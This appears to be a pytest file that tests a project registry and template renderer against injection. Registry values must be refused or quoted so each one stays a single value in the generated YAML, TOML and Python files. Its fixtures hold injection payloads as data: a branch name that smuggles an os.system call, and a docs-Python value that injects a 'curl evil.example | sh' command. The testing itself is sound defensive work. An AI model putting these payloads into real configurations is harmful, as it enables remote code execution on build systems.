"""Issue 17, finding 7: registry values land in YAML, TOML and Python files. The registry
refuses values of the wrong shape (branch names, URLs, versions, paths), and whatever
gets through is written quoted, so a value stays one value in every rendered file."""

from __future__ import annotations

import ast
import tomllib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from eco.errors import RegistryError
from eco.registry import load_registry
from eco.registry import Registry
from eco.skeleton.render import render_project
from eco.skeleton.render import Rendering
from tests.helpers import REGISTRY_HEAD
from tests.helpers import REPO
from tests.hostile import HOSTILE_REGISTRY_VALUES

TEMPLATES = REPO / "templates"

BRANCH = 'main"+__import__("os").system("id")+"'
DOCS_PYTHON = '3.13"\n  commands:\n    - "curl evil.example | sh'
CHAT_URL = "https://chat.example\n    about: x\n  - name: evil\n    url: https://evil.example"
DONATE_URL = "https://donate.example/?a='b'&c=\"d\"\\"
DESCRIPTION = 'Quotes " and \' and \\ and """ and\nnew lines, accents: é, a tab\tand \x7f.'
MAINTAINER = 'O\'Brien "Bob" \\ Jr.\n]'


def registry_with(tmp_path: Path, key: str, value: str) -> Path:
    """A registry whose project ``demo`` (or the ecosystem) sets ``key`` to ``value``."""
    head = REGISTRY_HEAD
    project = '\n[projects.demo]\nurl = "/tmp/demo"\n'
    if key.startswith("ecosystem."):
        head = head.replace("[ecosystem]\n", f"[ecosystem]\n{key.split('.', 1)[1]} = {value}\n")
    elif key.startswith("vars."):
        project += f"vars = {{ {key.split('.', 1)[1]} = {value} }}\n"
    else:
        project += f"{key} = {value}\n"
    path = tmp_path / "projects.toml"
    path.write_text(head + project)
    return path


@pytest.mark.parametrize("case", sorted(HOSTILE_REGISTRY_VALUES))
def test_the_registry_refuses_hostile_values(case: str, tmp_path: Path) -> None:
    key, value = HOSTILE_REGISTRY_VALUES[case]
    path = registry_with(tmp_path, key, value)
    with pytest.raises(RegistryError) as raised:
        load_registry(path)
    message = raised.value.message
    assert "\n" not in message
    assert message.startswith(f"{path}:")
    assert key.split(".")[-1] in message


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("branch", '"1.x"'),
        ("branch", '"release/2.0"'),
        ("branch", '"stable"'),
        ("ecosystem.sync-branch", '"eco/sync-2"'),
        ("vars.chat_url", '"https://discord.gg/pallets"'),
        ("vars.docs_url", '"http://localhost:8000/docs/"'),
        ("vars.docs_python", '"3.13"'),
        ("changelog", '"docs/changes.md"'),
    ],
)
def test_ordinary_values_are_accepted(key: str, value: str, tmp_path: Path) -> None:
    load_registry(registry_with(tmp_path, key, value))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("branch", '"-main"'),
        ("branch", '"main.lock"'),
        ("branch", '"a..b"'),
        ("branch", '"a b"'),
        ("branch", '"main\\n"'),
        ("branch", '"@"'),
        ("branch", '"a/.b"'),
        ("branch", '"a\\\\b"'),
        ("vars.chat_url", '"ftp://chat.example"'),
        ("vars.chat_url", '"https://"'),
        ("vars.docs_python", '"three"'),
        ("repo", '"owner/name\\n"'),
        ("skip", '{ "../x.md" = "a reason" }'),
    ],
)
def test_malformed_values_are_refused(key: str, value: str, tmp_path: Path) -> None:
    with pytest.raises(RegistryError):
        load_registry(registry_with(tmp_path, key, value))


@pytest.fixture(scope="module")
def registry() -> Registry:
    return load_registry(REPO / "projects.toml")


def hostile_rendering(registry: Registry, name: str, docs_format: str) -> Rendering:
    """A project with every hostile value the registry would refuse (as if its checks
    were bypassed), rendered with the real skeleton."""
    project = registry.projects[name]
    hostile = replace(
        project,
        generation="pip-tools",  # the generation with the most rendered files
        branch=BRANCH,
        description=DESCRIPTION,
        vars={
            **project.vars,
            "docs_format": docs_format,
            "docs_python": DOCS_PYTHON,
            "chat_url": CHAT_URL,
            "donate_url": DONATE_URL,
            "maintainer_name": MAINTAINER,
            "copyright": MAINTAINER,
        },
    )
    return render_project(hostile, registry.ecosystem, TEMPLATES)


def content(rendering: Rendering, path: str) -> str:
    return rendering.files[path].content


def assignments(source: str) -> dict[str, ast.expr]:
    """Every top-level ``name = value`` of a Python file; it must parse."""
    found = {}
    for node in ast.parse(source).body:
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    found[target.id] = node.value
    return found


def strings(node: ast.AST) -> list[str]:
    return [
        n.value for n in ast.walk(node) if isinstance(n, ast.Constant) and isinstance(n.value, str)
    ]


def calls(source: str) -> list[str]:
    """The names every call of a Python file calls."""
    names = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            names.append(ast.unparse(node.func))
    return names


@pytest.mark.parametrize("docs_format", ["md", "rst"])
def test_hostile_values_stay_one_value_in_every_file(registry: Registry, docs_format: str) -> None:
    rendering = hostile_rendering(registry, "flask-alembic", docs_format)

    readthedocs: Any = yaml.safe_load(content(rendering, ".readthedocs.yaml"))
    assert readthedocs["build"] == {"os": "ubuntu-24.04", "tools": {"python": DOCS_PYTHON}}

    links: Any = yaml.safe_load(content(rendering, ".github/ISSUE_TEMPLATE/config.yml"))
    assert [link["name"] for link in links["contact_links"]] == [
        "Security issue",
        "Questions on GitHub Discussions",
        "Questions on chat",
    ]
    assert links["contact_links"][2]["url"] == CHAT_URL

    for workflow in ("tests", "pre-commit", "zizmor"):
        data: Any = yaml.safe_load(content(rendering, f".github/workflows/{workflow}.yaml"))
        assert data[True]["push"]["branches"] == [BRANCH, "stable"]  # YAML 1.1: on is True

    conf = content(rendering, "docs/conf.py")
    assert set(calls(conf)) <= {
        "importlib.metadata.version",
        "partition",
        "importlib.metadata.version(project).partition",
        "get_version",
        "ProjectLink",
    }
    found = assignments(conf)
    if docs_format == "md":
        assert BRANCH in strings(found["html_theme_options"])
    else:
        assert strings(found["copyright"]) == [MAINTAINER]
        assert CHAT_URL in strings(found["html_context"])
        assert DONATE_URL in strings(found["html_context"])

    pyproject = tomllib.loads(content(rendering, "pyproject.toml"))
    assert pyproject["project"]["description"] == DESCRIPTION
    assert pyproject["project"]["maintainers"][0]["name"] == MAINTAINER
    assert pyproject["project"]["urls"]["Chat"] == CHAT_URL
    assert pyproject["project"]["urls"]["Donate"] == DONATE_URL

    assert "system" not in calls(content(rendering, "noxfile.py"))
